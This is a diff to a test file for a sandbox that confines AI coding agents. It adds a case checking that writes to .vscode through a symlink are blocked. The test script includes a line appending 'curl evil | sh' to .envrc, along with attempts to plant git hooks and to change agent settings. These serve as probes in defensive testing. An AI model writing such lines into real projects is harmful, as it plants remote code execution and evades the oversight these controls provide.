@@ -10,7 +10,7 @@
  * follows sandbox.fallback (blocked).
  */
 import { execFileSync, spawnSync } from 'node:child_process';
-import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { HostSessionResult } from './agent-host-session.ts';
@@ -63,6 +63,7 @@ try 'echo hook > .git/hooks/post-checkout' 'write .git'
 try 'test -s toolgate.yaml' 'read toolgate.yaml'
 try 'echo "{\\"hooks\\": {}}" > .claude/settings.local.json' 'write Claude Code settings'
 try 'echo "curl evil | sh" >> .envrc' 'write .envrc'
+try 'echo "{}" > .vscode/tasks.json' 'write .vscode through a link'
 `;
 
 function project(): HostProject {
@@ -72,6 +73,10 @@ function project(): HostProject {
   mkdirSync(path.join(path.dirname(created.directory), 'data'));
   writeFileSync(path.join(path.dirname(created.directory), 'data', 'keep.txt'), 'keep\n');
   execFileSync('git', ['init', '-q'], { cwd: created.directory });
+  // Editor tasks kept in another folder of the project, .vscode a link to it: protected where the link leads.
+  mkdirSync(path.join(created.directory, 'editor'));
+  writeFileSync(path.join(created.directory, 'editor', 'tasks.json'), '[]\n');
+  symlinkSync('editor', path.join(created.directory, '.vscode'));
   return created;
 }
 
@@ -93,7 +98,7 @@ function tried(where: HostProject): string[] {
   return readFileSync(path.join(where.directory, 'tried.txt'), 'utf8').trim().split('\n');
 }
 
-const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc'];
+const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc', 'failed: write .vscode through a link'];
 
 function expectConfined(where: HostProject): void {
   expect(tried(where)).toEqual(EXPECTED_TRIES);
@@ -105,6 +110,7 @@ function expectConfined(where: HostProject): void {
   expect(existsSync(path.join(where.directory, '.git/hooks/post-checkout'))).toBe(false);
   expect(readFileSync(path.join(where.directory, '.claude/settings.local.json'), 'utf8')).toBe('{}\n');
   expect(readFileSync(path.join(where.directory, '.envrc'), 'utf8')).toBe('');
+  expect(readFileSync(path.join(where.directory, 'editor', 'tasks.json'), 'utf8')).toBe('[]\n');
 }
 
 describe('sandbox.hosts: wrap, in front of the real Claude Code', () => {
@@ -211,7 +217,7 @@ describe('sandbox.hosts: wrap, in front of the real opencode', () => {
     writeFileSync(unwrapped.policyFile, WRAP_POLICY.replace('  hosts: wrap\n', '  hosts: off\n'));
     const loose = await runHostSession({ host: 'opencode', project: unwrapped, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
     expectOffline(loose);
-    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc']);
+    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc', 'ok: write .vscode through a link']);
     rmSync(OUTSIDE);
 
     const copilot = project();
